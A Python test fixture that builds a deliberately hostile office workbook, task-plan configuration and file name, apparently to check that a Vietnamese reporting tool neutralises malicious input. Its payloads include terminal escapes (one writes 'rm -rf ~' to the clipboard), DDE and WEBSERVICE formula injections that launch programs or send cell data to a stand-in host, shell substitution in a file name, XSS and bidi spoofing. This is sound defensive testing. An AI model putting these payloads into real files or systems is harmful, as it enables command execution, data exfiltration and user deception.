"""An office whose every text was written by somebody who means harm: plan, officials, sheet names, headings' notes, cells."""

from __future__ import annotations

import json
from pathlib import Path

import xlsxwriter

from tests.adapters.packages import changed

ESCAPES = (
    "\x1b[2J\x1b[1;1Hxóa màn hình",
    "\x1b]8;;http://xau.example/\x1b\\bấm vào đây\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4K\x07chép vào bộ nhớ",
    "\x1b]0;tên cửa sổ\x07",
    "\x1bc\x1b#8khởi động lại",
    "\x9b2J\x9d0;x\x9c\x90q\x9cmã C1",
    "kêu\x07\x07\x08\x08\x08lùi",
    "về đầu dòng\rĐã xong, không có lỗi",
)
"""What commands a terminal."""

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://xau.example/?"&A1,"bấm vào đây")',
    '=WEBSERVICE("http://xau.example/"&A1)',
    '=IMPORTXML(CONCAT("http://xau.example/",A1),"//a")',
)
"""What becomes a formula, or starts a program, where a text is taken for one."""

DECEPTIONS = (
    "_x0007__x001B_[2J",
    "_x005F_x0007_",
    "báo cáo\u202excod.exe\u202c",
    "\u2066\u2067đảo\u2069\u2069",
    "không\u200bthấy\ufeff\u2060",
    '<script>alert(1)</script><img src=x onerror="alert(1)">',
    "]]></t></is></c><c><f>1+1</f></c>",
    "&lt;b&gt; &#7; &amp;amp;",
    "\" & ' \"\" '' [x]!A1 {=1}",
    '"),N("sheetsync")=0,TRUE,("',
    "\ufffe\uffff\x00\x01\x0b\x1f\x7f",
)
"""Other texts that are not what they look like, or that break out of what holds them."""

TEXTS = (*ESCAPES, *FORMULAS, *DECEPTIONS)
SHEET = "Phòng '\"\x9b2J\u202e&<b>"
"""A sheet's name with quotes, a C1 command, a bidi override and markup."""
FORMULA_SHEET = "=1+1 'x'!A1"
FILE_NAME = 'sổ $(id) `id` "\x1b[2J\x07\u202e.xlsx'

HEADINGS = ("Mã NV", "Nhiệm vụ", "Thời hạn", "Trạng thái", "Ngày hoàn thành", "Kết quả trong kỳ",
            "Số, ký hiệu văn bản / minh chứng", "Khó khăn, vướng mắc, nguyên nhân", "Kiến nghị, đề xuất", "Ghi chú")  # fmt: skip


def _toml(text: str) -> str:
    """A TOML string with every text spelt out: JSON's escapes are TOML's, but for DEL."""
    return json.dumps(text).replace("\x7f", "\\u007f")


def write_config(folder: Path) -> Path:
    """Its configuration, in which every text is malicious too."""
    folder.mkdir(parents=True)
    officials = [
        f'[[official]]\ncode = "{code}"\ntitle = {_toml(title)}\nshort_title = {_toml(title)}\ntab = {_toml(tab)}\n'
        for code, title, tab in (("VP", TEXTS[0] + "Văn phòng", SHEET), ("TP", '"=1+1\u202e', FORMULA_SHEET))
    ]
    (folder / "officials.toml").write_text('consolidator = "VP"\n\n' + "\n".join(officials), encoding="utf-8")
    tasks = [
        f'[[task]]\nid = "A.{number}"\ntitle = {_toml(f"{text} {number}")}\narea = "II.{number % 6 + 1}"\n'
        f'lead = "{"TP" if number % 5 == 0 else "VP"}"\ncadence = "Một lần"\n'
        f'due = {{ basis = "Kế hoạch ghi", on = 2023-03-0{number % 9 + 1}, text = {_toml(text)} }}\n'
        for number, text in enumerate(TEXTS)
        if "\ufffe" not in text
    ]
    (folder / "plan-2023.toml").write_text('year = 2023\ntitle = "Kế hoạch"\n\n' + "\n".join(tasks), encoding="utf-8")
    return folder


def write_book(folder: Path) -> Path:
    """Its workbook: in each row another text in every column that an official fills in."""
    path = folder / "chưa đổi tên.xlsx"
    book = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False})
    for place, name in enumerate(("Một", "Hai", "Ba")):
        sheet = book.add_worksheet(name)
        sheet.write_row(0, 0, HEADINGS)
        chosen = [(number, text) for number, text in enumerate(TEXTS) if (number % 5 == 0) == (place == 1)] if place < 2 else []
        for row, (number, text) in enumerate(chosen, 1):
            done = ("Hoàn thành", text, "Đang thực hiện")[number % 3]
            for column, value in enumerate((f"A.{number}", f"{text} {number}", text, done, text, text, text, text, text, text)):
                sheet.write_string(row, column, value)
    book.close()
    named = changed(path.read_bytes(), {"xl/workbook.xml": _renamed})
    path.unlink()
    target = folder / FILE_NAME
    target.write_bytes(named)
    return target


def _renamed(content: bytes) -> bytes:
    for old, new in (('"Một"', SHEET), ('"Hai"', FORMULA_SHEET), ('"Ba"', "Ghi chép \x9d0;x\x9c")):
        written = new.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
        content = content.replace(old.encode(), f'"{written}"'.encode())
    return content
